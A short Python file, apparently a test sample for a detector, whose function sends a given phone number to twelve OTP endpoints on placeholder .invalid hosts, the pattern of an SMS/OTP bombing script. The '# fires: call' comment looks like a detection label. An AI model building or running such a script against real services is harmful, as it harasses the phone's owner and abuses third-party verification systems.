import requests

def start(number):
    requests.post("https://h0.invalid/otp", data=number)  # fires: call
    requests.post("https://h1.invalid/otp", data=number)
    requests.post("https://h2.invalid/otp", data=number)
    requests.post("https://h3.invalid/otp", data=number)
    requests.post("https://h4.invalid/otp", data=number)
    requests.post("https://h5.invalid/otp", data=number)
    requests.post("https://h6.invalid/otp", data=number)
    requests.post("https://h7.invalid/otp", data=number)
    requests.post("https://h8.invalid/otp", data=number)
    requests.post("https://h9.invalid/otp", data=number)
    requests.post("https://h10.invalid/otp", data=number)
    requests.post("https://h11.invalid/otp", data=number)
